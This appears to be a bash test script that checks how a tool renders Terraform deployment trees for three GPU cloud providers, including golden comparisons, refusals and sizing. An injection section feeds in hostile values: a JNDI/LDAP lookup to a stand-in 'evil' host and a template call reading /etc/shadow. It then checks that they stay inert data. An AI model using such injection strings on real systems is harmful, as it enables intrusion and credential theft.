#!/usr/bin/env bash
# render.sh - every cloud provider x example runbook renders; the trees are
# parsed by HashiCorp's HCL parser (@cdktf/hcl2json) and jq, checked for the
# expected resources, drill tags, pinned providers and the five outputs,
# compared with the golden trees, and rendering is byte-for-byte
# deterministic. Injection: hostile values stay JSON data in
# terraform.tfvars.json and never reach a .tf or main.tf.json.
#
# RH_UPDATE_GOLDEN=1 rewrites tests/data/golden/ (main.tf.json and
# terraform.tfvars.json per tree) instead of comparing.
source "$(dirname "$0")/lib.sh"

TOOLS=$RH_SRC/tests/tools/node_modules
# The source tree's catalog and templates, not the build directory's copies
# (a concurrent build rewrites those in place).
export RH_CATALOG_DIR=$RH_SRC/providers/catalog RH_TEMPLATES_DIR=$RH_SRC/templates
GOLDEN=$RH_SRC/tests/data/golden
ID=20260101T000000Z-golden-abcdef
LABEL=20260101t000000z-golden-abcdef

# HashiCorp's parser, one JSON document per file and line. One node process
# (a coprocess) parses every tree: starting node and the parser's Go/wasm
# runtime costs about a second of CPU, which used to be paid per tree. Each
# request is one line of tab-separated paths; the answer is one line per
# file, then "__end__ ok" or "__end__ error: MESSAGE".
hcl2json_start() {
	coproc HCL { HCL2JSON_LIB=$TOOLS/@cdktf/hcl2json exec node -e '
		const fs = require("fs");
		const { parse } = require(process.env.HCL2JSON_LIB);
		const rl = require("readline").createInterface({ input: process.stdin });
		rl.on("line", async (line) => {
			rl.pause();
			try {
				for (const f of line.split("\t").filter(Boolean)) {
					const j = await parse(f, fs.readFileSync(f, "utf8"));
					process.stdout.write(JSON.stringify(j) + "\n");
				}
				process.stdout.write("__end__ ok\n");
			} catch (e) {
				process.stdout.write("__end__ error: " + String(e).replace(/\n/g, " ") + "\n");
			}
			rl.resume();
		});
	'; }
	track "$HCL_PID"
	# bash closes a coprocess's own descriptors in subshells; copies stay
	exec {HCL_TO}>&"${HCL[1]}" {HCL_FROM}<&"${HCL[0]}"
}
hcl2json() {
	local line
	(IFS=$'\t'; printf '%s\n' "$*") >&"$HCL_TO"
	while IFS= read -r line <&"$HCL_FROM"; do
		case $line in
		"__end__ ok") return 0 ;;
		"__end__ "*) echo "hcl2json: ${line#__end__ }" >&2; return 1 ;;
		*) printf '%s\n' "$line" ;;
		esac
	done
	echo "hcl2json: the parser process exited" >&2
	return 1
}

if [ ! -d "$TOOLS/@cdktf/hcl2json" ] || ! command -v node >/dev/null || ! command -v jq >/dev/null; then
	echo "needs node, jq and tests/tools (run tests/tools/install.sh)"
	exit 1
fi
hcl2json_start

declare -A TARGET=([aws]=aws:us-east-1 [alibaba]=alibaba:cn-beijing [nebius]=nebius:eu-north1)
declare -A ACCEL=([aws]=L40S [alibaba]=A10 [nebius]=H100-80GB)
declare -A TYPES=(
	[aws]="aws_vpc aws_subnet aws_internet_gateway aws_route_table aws_security_group aws_vpc_security_group_ingress_rule aws_vpc_security_group_egress_rule aws_s3_bucket aws_iam_role aws_iam_instance_profile aws_instance"
	[alibaba]="alicloud_vpc alicloud_vswitch alicloud_security_group alicloud_security_group_rule alicloud_oss_bucket alicloud_ram_role alicloud_instance"
	[nebius]="nebius_vpc_v1_network nebius_vpc_v1_subnet nebius_vpc_v1_security_group nebius_vpc_v1_security_rule nebius_storage_v1_bucket nebius_iam_v1_service_account nebius_iam_v2_access_key nebius_compute_v1_instance"
)
declare -A SOURCE=([aws]=hashicorp/aws [alibaba]=aliyun/alicloud [nebius]=nebius/nebius)
# Resource types whose provider schema has no tags/labels argument.
UNTAGGABLE="aws_route_table_association aws_s3_bucket_public_access_block aws_iam_role_policy alicloud_security_group_rule alicloud_oss_bucket_acl alicloud_ram_role alicloud_ram_policy alicloud_ram_role_policy_attachment alicloud_ecs_ram_role_attachment"

render() { # render PROVIDER RUNBOOK OUT [extra args...]
	local p=$1 rb=$2 out=$3
	shift 3
	local extra=()
	[ "$p" = nebius ] && extra=(--set project_id=project-e00golden --set storage_group_id=group-e00golden)
	"$REHYDRA" render "$RH_SRC/runbooks/$rb.json" --target "${TARGET[$p]}" \
		--accelerator "${ACCEL[$p]}" --drill-id "$ID" "${extra[@]}" "$@" --out "$out" >/dev/null
}

hcl2json_quiet() { hcl2json "$@" >/dev/null; }
jq_objects() { jq -e 'type == "object"' "$@" >/dev/null; }

check_tree() { # check_tree PROVIDER DIR NAME
	local p=$1 d=$2 n=$3 all t missing=""
	all=$T/$n.hcl.json
	if ! hcl2json "$d"/module/*.tf >"$all"; then
		fail "$n: HashiCorp's parser rejects a module file"
		return
	fi
	expect_eq "$n: every module file parses with hcl2json" \
		"$(ls "$d"/module/*.tf | wc -l)" "$(wc -l <"$all")"
	check "$n: main.tf.json and terraform.tfvars.json are JSON objects" \
		jq_objects "$d/main.tf.json" "$d/terraform.tfvars.json"
	for t in ${TYPES[$p]}; do
		jq -se --arg t "$t" 'map(.resource // {} | has($t)) | any' "$all" >/dev/null || missing="$missing $t"
	done
	expect_eq "$n: expected resource types" "" "$missing"
	# every taggable resource carries var.labels (tags or labels)
	local untagged
	untagged=$(jq -sr --arg skip "$UNTAGGABLE" '
		($skip | split(" ")) as $s
		| [ .[] | .resource // {} | to_entries[] | select(.key as $k | $s | index($k) | not)
		  | .key as $type | .value | to_entries[] | .key as $name | .value[]
		  | select(((.tags // .labels // "") | tostring | test("var\\.labels")) | not)
		  | "\($type).\($name)" ] | join(" ")' "$all")
	expect_eq "$n: every taggable resource is tagged with var.labels" "" "$untagged"
	expect_eq "$n: the labels carry the drill id" "$LABEL" \
		"$(jq -r '.labels["rehydra-drill"]' "$d/terraform.tfvars.json")"
	expect_eq "$n: module outputs" "bucket endpoint instance_id ssh_host ssh_user" \
		"$(jq -sr '[.[] | .output // {} | keys[]] | sort | join(" ")' "$all")"
	expect_eq "$n: root outputs" "bucket endpoint instance_id ssh_host ssh_user" \
		"$(jq -r '.output | keys | join(" ")' "$d/main.tf.json")"
	expect_eq "$n: provider source and version range from the catalog" \
		"$(jq -r '.terraform | "\(.source) \(.version)"' "$RH_SRC/providers/catalog/$p.json")" \
		"$(jq -r '.terraform.required_providers[] | "\(.source) \(.version)"' "$d/main.tf.json")"
	expect_eq "$n: module versions.tf pins the same provider and range" \
		"$(jq -r '.terraform | "\(.source) \(.version)"' "$RH_SRC/providers/catalog/$p.json")" \
		"$(jq -sr '[.[] | .terraform // [] | .[] | .required_providers // [] | .[] | .[] | "\(.source) \(.version)"] | unique | join(" ")' "$all")"
	check_serving "$p" "$d" "$n" "$all"
	# main.tf.json holds constant expressions only: every module argument
	# is a bare variable reference, every variable has a value in tfvars
	expect_eq "$n: module arguments are only \${var.NAME}" "" \
		"$(jq -r '.module.rehydra | to_entries[] | select(.key != "source")
			| select(.value != "${var.\(.key)}") | .key' "$d/main.tf.json")"
	expect_eq "$n: every root variable has a value" \
		"$(jq -r '.variable | keys | join(" ")' "$d/main.tf.json")" \
		"$(jq -r 'keys | join(" ")' "$d/terraform.tfvars.json")"
	expect_eq "$n: security group opens the allowed CIDR" "203.0.113.0/24 198.51.100.0/24" \
		"$(jq -r '"\(.allowed_cidr) \(.operator_cidr)"' "$d/terraform.tfvars.json")"
}

# What makes a module serve (issue 11), read from the parsed module: the
# boot script's addressing is the catalog's style, Alibaba's endpoint is
# OSS's S3 one, zones come from what offers the instance type (with a
# clear error when none does), root volumes are encrypted.
hcl_local() { # hcl_local ALL NAME: a local's value, as hcl2json prints it
	jq -sc --arg k "$2" '[.[] | .locals // [] | .[] | .[$k] // empty] | first' "$1"
}
check_serving() { # check_serving PROVIDER DIR NAME ALL
	local p=$1 d=$2 n=$3 all=$4 region
	region=$(jq -r .region "$d/terraform.tfvars.json")
	expect_eq "$n: the boot script addresses the bucket in the catalog's style" \
		"$(jq -r --arg r "$region" '.regions[$r].object_storage.style' "$RH_SRC/providers/catalog/$p.json")" \
		"$(hcl_local "$all" boot_cloud | jq -r .addressing)"
	expect_eq "$n: the boot script gets the catalog's endpoint" '${var.s3_endpoint}' \
		"$(hcl_local "$all" boot_cloud | jq -r .endpoint)"
	case $p in
	aws)
		expect_eq "$n: the subnet's zone is one that offers the type" \
			'${length(local.zones) > 0 ? local.zones[0] : null}' \
			"$(jq -sr '[.[] | .resource.aws_subnet.this // empty | .[0].availability_zone] | first' "$all")"
		check "$n: zones are the offerings for the instance type" grep -q \
			'data.aws_ec2_instance_type_offerings.gpu.locations' <<<"$(hcl_local "$all" zones)"
		check "$n: a clear error when no zone offers it" grep -q 'no availability zone of' \
			<<<"$(jq -sc '[.[] | .resource.aws_subnet.this // empty | .[0].lifecycle] | first' "$all")"
		check "$n: Local Zones are left out" grep -q 'opt-in-not-required' \
			<<<"$(jq -sc '[.[] | .data.aws_availability_zones // empty] | first' "$all")"
		expect_eq "$n: the root volume is encrypted" true \
			"$(jq -sr '[.[] | .resource.aws_instance.gpu // empty | .[0].root_block_device[0].encrypted] | first' "$all")"
		;;
	alibaba)
		expect_eq "$n: OSS's S3 endpoint s3.oss-REGION" "https://s3.oss-$region.aliyuncs.com" \
			"$(jq -r .s3_endpoint "$d/terraform.tfvars.json")"
		check "$n: the zone stocks the type, no zones[0] index error" grep -qF \
			'try(data.alicloud_zones.gpu.zones[0].id' <<<"$(hcl_local "$all" zone_id)"
		check "$n: a clear error when no zone has it" grep -q 'in stock' \
			<<<"$(jq -sc '[.[] | .resource.alicloud_vswitch.this // empty | .[0].lifecycle] | first' "$all")"
		expect_eq "$n: the system disk is encrypted" true \
			"$(jq -sr '[.[] | .resource.alicloud_instance.gpu // empty | .[0].system_disk_encrypted] | first' "$all")"
		;;
	nebius)
		expect_eq "$n: the boot disk is encrypted" DISK_ENCRYPTION_MANAGED \
			"$(jq -sr '[.[] | .resource.nebius_compute_v1_instance.gpu // empty | .[0].boot_disk.managed_disk.spec.disk_encryption.type] | first' "$all")"
		;;
	esac
}

for rb in qwen3-alibaba-to-nebius qwen3-nebius-to-aws; do
	for p in aws alibaba nebius; do
		n=$p-$rb
		out=$T/$n
		if ! render "$p" "$rb" "$out"; then
			fail "$n: render failed"
			continue
		fi
		pass "$n: rendered"
		check_tree "$p" "$out" "$n"
		render "$p" "$rb" "$T/again-$n"
		check "$n: a second render is byte-identical" diff -r "$out" "$T/again-$n"
		# The module is templates/common plus the provider's templates,
		# copied as they are; the golden files hold only what rendering
		# generates, so a template edit does not mean regenerating them.
		rm -rf "$T/expect-module" && mkdir "$T/expect-module"
		# (regular files only: templates/$p/standby/ is the standby's module)
		find "$RH_SRC/templates/common" "$RH_SRC/templates/$p" -maxdepth 1 -type f \
			-exec cp {} "$T/expect-module/" \;
		check "$n: module/ is templates/common + templates/$p unchanged" \
			diff -r "$T/expect-module" "$out/module"
		check "$n: module has the shared boot script" test -s "$out/module/boot.py"
		if [ "${RH_UPDATE_GOLDEN:-}" = 1 ]; then
			rm -rf "${GOLDEN:?}/$n"
			mkdir -p "$GOLDEN/$n"
			cp "$out/main.tf.json" "$out/terraform.tfvars.json" "$GOLDEN/$n/"
			pass "$n: golden files updated"
		else
			check "$n: generated files match tests/data/golden/$n" \
				diff -r -x module "$GOLDEN/$n" "$out"
		fi
	done
done

# Injection: a var and a target key full of quotes, ${, %{, newlines and
# backslashes. They must arrive intact in terraform.tfvars.json and nowhere
# else; the .tf files must still parse.
EVIL=$'q"uote ${jndi:ldap://evil} %{ if true }tpl%{ endif } back\\slash\nnew"line }'
KEY=$'ssh-ed25519 AAAA ${file("/etc/shadow")} %{for x in y}'
jq '.vars.evil = "placeholder" | .stack.command += ["--evil", "${vars.evil}"]
    | .stack.env.EVIL = "x-${vars.evil}"' "$RH_SRC/runbooks/qwen3-nebius-to-aws.json" >"$T/evil.json"
for p in aws alibaba nebius; do
	n=evil-$p
	out=$T/$n
	extra=()
	[ "$p" = nebius ] && extra=(--set project_id=p --set storage_group_id=g)
	if ! "$REHYDRA" render "$T/evil.json" --target "${TARGET[$p]}" --accelerator "${ACCEL[$p]}" \
		--var "evil=$EVIL" --set "ssh_public_key=$KEY" "${extra[@]}" --out "$out" >/dev/null; then
		fail "$n: render failed"
		continue
	fi
	expect_eq "$n: the hostile var is one argv item, byte for byte" "$EVIL" \
		"$(jq -r '.stack_command[-1]' "$out/terraform.tfvars.json")"
	expect_eq "$n: and intact inside an env value" "x-$EVIL" \
		"$(jq -r '.stack_env.EVIL' "$out/terraform.tfvars.json")"
	expect_eq "$n: the hostile target key is data too" "$KEY" \
		"$(jq -r '.ssh_public_key' "$out/terraform.tfvars.json")"
	check "$n: no hostile text in main.tf.json or the module" \
		bash -c '! grep -rlE "jndi|etc/shadow|tpl%" "$1/main.tf.json" "$1/module"' _ "$out"
	check "$n: the module still parses" hcl2json_quiet "$out"/module/*.tf
done

# Refusals: an accelerator a provider does not sell, a region it lacks, a
# stack value the instance cannot know at boot, a provider without Terraform.
expect_fail() { # expect_fail NAME PATTERN ARGS...
	local n=$1 pat=$2 out rc=0
	shift 2
	out=$("$REHYDRA" render "$@" --out "$T/refused" 2>&1) || rc=$?
	if [ "$rc" = 2 ] && grep -q -- "$pat" <<<"$out"; then pass "$n"; else fail "$n (rc $rc: $out)"; fi
}
expect_fail "H20 is not sold by AWS" "aws does not offer H20-96GB" \
	"$RH_SRC/runbooks/qwen3-nebius-to-aws.json" --target aws:us-east-1 --accelerator H20-96GB
expect_fail "H100 is not in ap-southeast-1 on AWS" "not in ap-southeast-1" \
	"$RH_SRC/runbooks/qwen3-nebius-to-aws.json" --target aws:ap-southeast-1 --accelerator H100-80GB
expect_fail "an unverified class needs instance_type" "set target.instance_type" \
	"$RH_SRC/runbooks/qwen3-nebius-to-aws.json" --target alibaba:cn-beijing --accelerator H20-96GB
expect_fail "unknown region" "known regions are" \
	"$RH_SRC/runbooks/qwen3-nebius-to-aws.json" --target aws:mars-1
expect_fail "nebius needs its project" "needs target.project_id" \
	"$RH_SRC/runbooks/qwen3-nebius-to-aws.json" --target nebius:eu-north1 --accelerator L40S
expect_fail "local renders nothing" "nothing to render" \
	"$RH_SRC/runbooks/qwen3-nebius-to-aws.json" --target local
jq '.stack.command += ["${model.sha256}"]' "$RH_SRC/runbooks/qwen3-nebius-to-aws.json" >"$T/sha.json"
expect_fail "model.sha256 is not known at boot" "before rehydra learns that value" "$T/sha.json"
check "nothing was written by the refusals" test ! -e "$T/refused/main.tf.json"

# An unverified class renders once the operator names the type.
check "H20 on Alibaba renders with --set instance_type" \
	"$REHYDRA" render "$RH_SRC/runbooks/qwen3-nebius-to-aws.json" --target alibaba:cn-beijing \
	--accelerator H20-96GB --set instance_type=ecs.example-h20 --out "$T/h20" -q
expect_eq "the named type is used" ecs.example-h20 \
	"$(jq -r .instance_type "$T/h20/terraform.tfvars.json" 2>/dev/null)"

# The accelerator count picks the size: one H100 is not an 8-GPU p5.48xlarge.
size_of() { # size_of PROVIDER:REGION COUNT KEY [extra...]
	local t=$1 c=$2 k=$3
	shift 3
	"$REHYDRA" render "$RH_SRC/runbooks/qwen3-nebius-to-aws.json" --target "$t" --accelerator H100-80GB \
		--set "accelerator_count=$c" "$@" --out "$T/size-$c" -q && jq -r ".$k" "$T/size-$c/terraform.tfvars.json"
}
expect_eq "one H100 on AWS: the single-GPU p5.4xlarge" p5.4xlarge \
	"$(size_of aws:us-east-1 1 instance_type)"
"$REHYDRA" render "$RH_SRC/runbooks/qwen3-nebius-to-aws.json" --target aws:us-east-1 \
	--accelerator H100-80GB --out "$T/size-default" -q
expect_eq "one H100 when no count is given" p5.4xlarge "$(jq -r .instance_type "$T/size-default/terraform.tfvars.json")"
expect_eq "two H100s: the smallest size with enough, p5.48xlarge" p5.48xlarge \
	"$(size_of aws:us-east-1 2 instance_type)"
expect_eq "eight H100s on Nebius: the 8-GPU preset" 8gpu-128vcpu-1600gb \
	"$(size_of nebius:eu-north1 8 preset --set project_id=p --set storage_group_id=g)"
expect_fail "more GPUs than any size" "no size of H100-80GB with 16 accelerators" \
	"$RH_SRC/runbooks/qwen3-nebius-to-aws.json" --target aws:us-east-1 --accelerator H100-80GB \
	--set accelerator_count=16
expect_fail "a count must be an integer" "accelerator_count must be an integer" \
	"$RH_SRC/runbooks/qwen3-nebius-to-aws.json" --target aws:us-east-1 --accelerator H100-80GB \
	--set accelerator_count=0

# stack.image: the instance runs the stack from that image (the boot script
# starts it with docker and the NVIDIA runtime); expanded like the command.
jq '.stack.image = "vllm/vllm-openai:${vars.vllm}" | .vars.vllm = "v0.8.5"' \
	"$RH_SRC/runbooks/qwen3-nebius-to-aws.json" >"$T/image.json"
"$REHYDRA" render "$T/image.json" --target aws:us-east-1 --accelerator L40S --out "$T/image" -q
expect_eq "stack.image reaches the module, expanded" vllm/vllm-openai:v0.8.5 \
	"$(jq -r .stack_image "$T/image/terraform.tfvars.json")"
expect_eq "no stack.image: the machine image's own command" "" \
	"$(jq -r .stack_image "$T/size-default/terraform.tfvars.json")"
jq '.stack.image = 5' "$RH_SRC/runbooks/qwen3-nebius-to-aws.json" >"$T/image-bad.json"
expect_fail "stack.image must be a string" "image: expected a string" "$T/image-bad.json"

# providers list / show
out=$("$REHYDRA" providers list)
check "providers list names the clouds" grep -q "^nebius" <<<"$out"
out=$("$REHYDRA" providers show aws --json)
expect_eq "providers show --json: the catalog's regions" \
	"$(jq -r '.regions | keys | join(" ")' "$RH_SRC/providers/catalog/aws.json")" \
	"$(jq -r '.catalog.regions | keys | join(" ")' <<<"$out")"
expect_eq "providers show --json: jurisdiction" "DE EU" \
	"$(jq -r '.catalog.regions["eu-central-1"].jurisdiction | "\(.country) \(.bloc)"' <<<"$out")"
rc=0
"$REHYDRA" providers show nosuch >/dev/null 2>&1 || rc=$?
expect_eq "providers show of an unknown provider is a usage error" 2 "$rc"

finish
